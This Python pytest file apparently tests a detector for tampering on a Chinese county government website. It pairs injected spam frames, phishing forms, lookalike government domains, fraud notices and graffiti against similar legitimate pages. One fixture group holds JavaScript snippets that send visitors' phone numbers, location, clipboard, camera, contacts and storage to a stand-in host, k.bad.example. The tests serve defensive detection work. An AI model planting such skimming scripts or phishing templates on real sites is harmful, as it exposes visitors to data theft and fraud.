"""Relatives of what outsiders did: pages that a page carries, data, stories of swindlers, scrawls, what is taken."""

import base64
import json

import pytest

from tests.pages.imitations.judging import shot, violations
from tests.pages.test_relatives import PAGE, assert_not_accused, assert_told, put, script

_TO = "http://t.bad.example/"
_THEIRS = '<title>澳门永利</title><h1>永利皇宫 注册送58元</h1><a href="https://t.bad.example/">进入</a>'
_DRAWN = "<svg><a href=https://t.bad.example/><text>进入</text></a></svg>"
_ASKS = "<form action=https://t.bad.example/s><input name=kh placeholder=银行卡号><input type=password name=mm></form>"


def coded(html: str, kind: str = "text/html") -> str:
    """An address that holds a page."""
    return f"data:{kind};base64,{base64.b64encode(html.encode()).decode()}"


def head(html: str) -> str:
    """The page with something in its head."""
    return PAGE.replace("</head>", f"{html}</head>")


def entry(title: str, url: str = "https://t.bad.example/x") -> str:
    """A line of a list for a script."""
    return json.dumps([{"title": "县政府召开常务会议", "url": "/a/1.html"}, {"title": title, "url": url}])


def line(text: str) -> str:
    """The page with one more line among its news."""
    return PAGE.replace("</ul>", f"<li><a href='/a/2.html'>{text}</a></li></ul>")


CARRIED = {
    "a frame over the page": put(f"<iframe style='position:fixed;inset:0;width:100%' src='{coded(_THEIRS)}'></iframe>"),
    "a frame of some size": put(f"<iframe width=300 height=200 src='{coded(_ASKS)}'></iframe>"),
    "without a link": put(f"<iframe width=300 height=200 src='{coded('<h1>某某团队</h1>')}'></iframe>"),
    "an object": put(f"<object type=text/html width=900 height=600 data='{coded(_THEIRS)}'></object>"),
    "an embedded one": put(f"<embed width=900 height=600 src='{coded(_THEIRS)}'>"),
    "another kind of page": put(f"<iframe src='{coded(_THEIRS, 'application/xhtml+xml')}'></iframe>"),
    "a drawing with a link": put(f"<iframe src='{coded(_DRAWN, 'image/svg+xml')}'></iframe>"),
    "in its own attribute": put(f"<iframe width=900 height=600 srcdoc='{_THEIRS}'></iframe>"),
    "a form in its own attribute": put(f"<iframe width=900 height=600 srcdoc='{_ASKS}'></iframe>"),
    "opened as a window": script(f"window.open('{coded(_THEIRS)}')"),
    "put in by a script": script(
        f"var f=document.createElement('iframe');f.src='{coded(_THEIRS)}';document.body.append(f)"
    ),
    "links for old browsers": put(
        "<!--[if lte IE 9]><div><a href='http://a.bad.example/'>免费成人视频在线观看</a></div><![endif]-->"
    ),
    "hidden from old browsers' users": put(
        "<!--[if IE]><div style='height:0;overflow:hidden'><a href='http://a.bad.example/'>某某商城</a></div><![endif]-->"
    ),
    "words for old browsers": put("<!--[if lt IE 8]><p>百家乐 真人娱乐平台 注册送58元</p><![endif]-->"),
    "old browsers led away by a script": head(f"<!--[if IE]><script>location.href='{_TO}'</script><![endif]-->"),
    "old browsers led away by a tag": head(
        f"<!--[if lt IE 9]><meta http-equiv=refresh content='0;url={_TO}'><![endif]-->"
    ),
    "a pattern for a script": put(
        "<script type=text/x-template><a href='https://a.bad.example/'>百家乐开户</a></script>"
    ),
}
DATA = {
    "a list of the page": put(f"<script type=application/json>{entry('同城约妹子 上门服务 加微信ycm0931')}</script>"),
    "a script's list": script(f"var news={entry('同城约妹子 上门服务 加微信ycm0931')}"),
    "letters in code": put(f"<script type=application/json>{entry('凭身份证秒批 黑户可贷 当天下款')}</script>"),
    "money to come for": put(f"<script type=application/json>{entry('2026年综合补贴申领入口')}</script>"),
    "an office's name": script(f"var links={entry('云山县人民政府网')}"),
    "a host like an office's": script(
        f"var links={entry('县长信箱网上写信', 'http://www.yunshan.gov.cn.bad.example/')}"
    ),
    "of an element": put(f"<div data-items='{entry('澳门百家乐开户送彩金')}'></div>"),
    "of an element, in code": put(f'<div data-items="{entry("代办毕业证 刻章").replace(chr(34), "&quot;")}"></div>'),
}
_HOSTS = (
    "www.yunshan-gov.cn.letters.example", "www.gov-cn.zwfw.example", "zwfw.gov.cn-login.example", "xzxx.g0v.cn",
    "www.yunshan.gov.cn.example", "www.yunshan.gov.cn-login.example", "zwfw-gov.com.cn", "www.yunshan.qov.cn",
)  # fmt: skip
FEIGNED = {
    **{host: line("x").replace("/a/2.html'>x", f"http://{host}/xzxx/'>县长信箱") for host in _HOSTS},
    "a form": put("<form action='http://www.yunshan.gov.cn.bad.example/s'><input name=q></form>"),
    "a picture": put("<img src='http://img.yunshan.gov.cn.bad.example/a.jpg'>"),
    "a frame": put("<iframe src='http://www.yunshan.gov.cn.bad.example/' width=300 height=200></iframe>"),
    "a program": put("<script src='http://www.yunshan.gov.cn.bad.example/a.js'></script>"),
}
STORIES = {
    "the police and a program": put(
        "<div><b>国家反诈中心</b>：您名下账户涉嫌洗钱，请立即下载“国家反诈中心·安全账户版”并将资金转入安全账户接受核查。"
        "<a href='http://d.bad.example/fz.apk'>点击下载APP</a></div>"
    ),
    "the police and an account": put(
        "<p>县反诈中心通知：您的账户涉嫌洗钱，请将资金转入安全账户配合调查，联系17012345678</p>"
    ),
    "a warrant": put(
        "<div>【通缉令】您涉嫌跨境洗钱案，请登录 <a href='http://s.bad.example/'>查看</a> 并配合清查</div>"
    ),
    "a code for a card": put(
        "<div><img src='data:image/png;base64,iVBORw0='><p>微信扫码添加客服,输入银行卡号领取综合补贴</p></div>"
    ),
    "a code of the site's own": put("<div><img src='/u/q.png'><p>扫码填写银行卡信息，领取2026年个人劳动补贴</p></div>"),
    "somebody to add": put(
        "<div><img src='/u/q.png'><p>养老金补发：扫码添加工作人员微信，提供身份证和银行卡办理</p></div>"
    ),
    "a card that is stopped": put(
        "<div>ETC已失效，请登录 <a href='http://e.bad.example/'>www.e.bad.example</a> 办理</div>"
    ),
    "a post": put("<div>县政府招聘文员，无需考试，缴纳服装费300元即可上岗，加微信zf_hr2026报名</div>"),
    "an examination": put("<div>事业单位考试内部名额，保证进面，联系QQ 3391827450</div>"),
    "small jobs": put("<p>招兼职：手机点赞日结200-500元，扫码进群领任务</p>"),
    "a loan": put("<p>惠民快贷，无抵押，身份证即可办理，最高30万，客服微信 dk8899a</p>"),
    "a fund": put("<p>县重点项目面向市民募集，年化收益18%，保本保息，认购热线 400-888-1234</p>"),
    "old treasures": put("<p>民族资产解冻委员会：交纳108元会员费，可领取解冻款36万元，加群登记</p>"),
    "a present": put("<div>参与满意度调查，100%领取200元话费 <a href='http://h.bad.example/'>立即参与</a></div>"),
    "a pension": put("<div>社保断缴补缴、退休办理，专线 400-665-9981 李主任（先缴后退）</div>"),
    "a list": put("<div>内部干部调整名单，请加QQ群 827361555，入群费50元</div>"),
    "a purse": put("<p>捐款请加微信好友 hl_juan66（陈小姐）直接转账，或支付宝转账至 17099130042</p>"),
    "a fine": put("<p>交通违章罚款可扫描下方二维码支付，微信收款人：李建国<img src='/u/s.png'></p>"),
    "a form": put(
        "<form action=/x><p>补贴发放登记</p><input placeholder=银行卡号><input placeholder=短信验证码></form>"
    ),
}
_SCRAWLS = (
    "周立新是大贪官大家都来骂他",
    "王建国书记滚下台",
    "政府就是土匪强盗",
    "腐败政府欺压百姓",
    "还我土地 还我房子",
    "天灭中共 退党保平安",
    "法轮大法好",
    "台湾独立万岁",
    "你们这群畜生不得好死",
    "县长是个大骗子",
    "管理员你的密码太弱了",
    "此网站存在高危漏洞 联系qq 123456",
    "Free Tibet",
    "一党专政必亡",
    "强拆死全家",
    "抵制县政府",
    "某某到此一游",
    "入侵测试 by 小白",
    "你已被黑",
    "We are Anonymous. Expect us.",
)
SCRAWLS = {
    **{text: line(text) for text in _SCRAWLS},
    "on a button": put("<input type=button value='狗官去死'>"),
    "in a field": put("<input placeholder='狗官去死'>"),
    "in a drawing": put("<svg><text y=50>狗官去死</text></svg>"),
    "by a script": script("document.querySelector('h1').textContent='狗官去死'"),
    "in a window": script("alert('网站已被黑，求管理员加强安全')"),
    "on a picture": put("<img src=/b.jpg alt='狗官去死'>"),
}
TAKEN = {
    "a number": script("window.onGrab=function(m){new Image().src='https://k.bad.example/save?mobile='+m.phone}"),
    "a place": script("navigator.geolocation.getCurrentPosition(p=>fetch('https://k.bad.example/l?la='+p.coords.latitude))"),
    "what was copied": script("navigator.clipboard.readText().then(t=>{new Image().src='https://k.bad.example/c?'+t})"),
    "a camera": script("navigator.mediaDevices.getUserMedia({video:true}).then(s=>fetch('https://k.bad.example/v',{body:s}))"),
    "friends": script("onclick=()=>navigator.contacts.select(['tel']).then(c=>fetch('https://k.bad.example/',{body:c}))"),
    "what is kept": script("fetch('https://k.bad.example/?d='+JSON.stringify(localStorage))"),
    "what is sent": script("XMLHttpRequest.prototype.send=function(b){navigator.sendBeacon('https://k.bad.example/x',b)}"),
    "what is asked": script("var f=fetch;window.fetch=function(u,o){f('https://k.bad.example/?u='+u);return f(u,o)}"),
    "a worker with orders": script(
        "navigator.serviceWorker.register('/sw.js?h='+encodeURIComponent('wss://k.bad.example/g'),{scope:'/'})"
    ),
    "what is pasted": script(
        "document.oncopy=function(e){e.clipboardData.setData('text/plain','更多精彩 https://k.bad.example/');e.preventDefault()}"
    ),
}  # fmt: skip
TOLD = {**CARRIED, **DATA, **FEIGNED, **STORIES, **SCRAWLS, **TAKEN}

_TITLES = (
    "贪官外逃的末路",
    "打虎记：一个贪官的忏悔录",
    "《狗官》剧组来我县取景",
    "铁腕惩治贪官污吏 维护群众利益",
    "坚决打倒一切歪风邪气",
    "警惕“法轮大法好”邪教标语",
    "反对“台独” 促进统一",
    "日本首相宣布下台",
    "我县开展强拆违建专项行动",
    "土匪强盗横行的旧社会：党史故事",
    "网络安全周：你的密码太弱了怎么办",
    "网络安全应急演练：网站被黑怎么办",
    "到此一游陋习不可取",
    "周立新接受纪律审查和监察调查",
    "举报：某某施工队拖欠工资，还我血汗钱",
    "还路于民 拆违进行时",
    "县公安局：警察打人系谣言",
)
HONEST = {
    **{text: line(text) for text in _TITLES},
    "an own page in a frame": put(
        "<iframe srcdoc='<p>专栏正在更新</p><a href=/zwgk/>进入</a>' width=300 height=80></iframe>"
    ),
    "an empty frame": put("<iframe src='data:text/html,' style='display:none'></iframe>"),
    "a picture in code": put(f"<img src='{coded('<svg><path d=M0/></svg>', 'image/svg+xml')}'>"),
    "old browsers": put(
        "<!--[if lte IE 9]><script src=/js/html5shiv.js></script><div style='height:30px;overflow:hidden'>您的浏览器"
        "版本过低，请<a href='http://browse.other.example/'>升级</a></div><![endif]-->"
    ),
    "a list of the office's": put(f"<script type=application/json>{entry('同城通办业务开通', '/a/2.html')}</script>"),
    "a friend in a list": put(
        f"<script type=application/json>{entry('云山旅游网欢迎您', 'http://www.yunshanly.com/')}</script>"
    ),
    "another of its hosts": put("<a href='http://hd.yunshan.gov.cn/xzxx/'>县长信箱</a>"),
    "what fighters hand out": put(
        "<div>请下载国家反诈中心APP，劝阻专线96110 <a href='https://a.app.qq.com/o/f'>立即下载</a></div>"
    ),
    "who warns of the police": put(
        "<div>凡是自称公检法要求把资金转入“安全账户”的都是诈骗！您名下账户涉嫌洗钱之类的话不要信</div>"
    ),
    "a code to follow": put("<div><img src='data:image/gif;base64,R0lGODlh'><p>微信扫码关注“云山发布”</p></div>"),
    "a code for pensioners": put("<div><img src=/i/e.png><p>扫码登录“掌上12333”，办理养老保险待遇资格认证</p></div>"),
    "a code for a card of theirs": put(
        "<div><img src=/i/e.png><p>扫码激活社保卡，请携带身份证、银行卡到服务窗口办理</p></div>"
    ),
    "a desk behind a code": put(
        "<div><p>扫码添加工作人员企业微信，提交银行卡信息，领取稳岗补贴</p><p>咨询电话：0795-6126655</p></div>"
    ),
    "posts": put("<div>县政府公开招聘消防员30名，报名咨询：0795-6126655，报名考务费50元缴至县财政非税专户</div>"),
    "a fair": put("<p>春风行动招聘会：县人社局组织50家企业进场，扫码进群了解岗位</p>"),
    "a loan of the office's": put("<p>创业担保贷款：个人最高30万元，无抵押，县就业局0795-6126655</p>"),
    "a bank for the road": put("<div>ETC已失效的，请到网点办理 <a href='http://www.bank.example/'>某某银行</a></div>"),
    "a form of the office's": put(
        "<form action=/bt><p>惠农补贴一卡通信息核对</p><input placeholder=姓名><input placeholder=一卡通账号></form>"
    ),
    "weather where one is": script(
        "navigator.geolocation.getCurrentPosition(p=>$.get('/weather',{lat:p.coords.latitude}))"
    ),
    "what is copied says where": script(
        "document.oncopy=function(e){e.clipboardData.setData('text/plain',getSelection()+'来源：http://www.yunshan.gov.cn/')}"
    ),
    "a worker of the site's": script("navigator.serviceWorker.register('/sw.js?v=2026',{scope:'/'})"),
}


@pytest.mark.parametrize("page", TOLD.values(), ids=TOLD)
def test_it_is_told_at_first_sight_and_against_the_baseline(page: str) -> None:
    assert_told(page)


@pytest.mark.parametrize("page", HONEST.values(), ids=HONEST)
def test_an_honest_page_of_the_same_shape_is_not_accused(page: str) -> None:
    assert_not_accused(page)


def test_what_old_browsers_read_and_frames_hold_may_be_accepted() -> None:
    """A person who has looked at it is not asked again."""
    for page in (CARRIED["old browsers led away by a script"], CARRIED["without a link"]):
        assert violations(page, shot(page)) == []
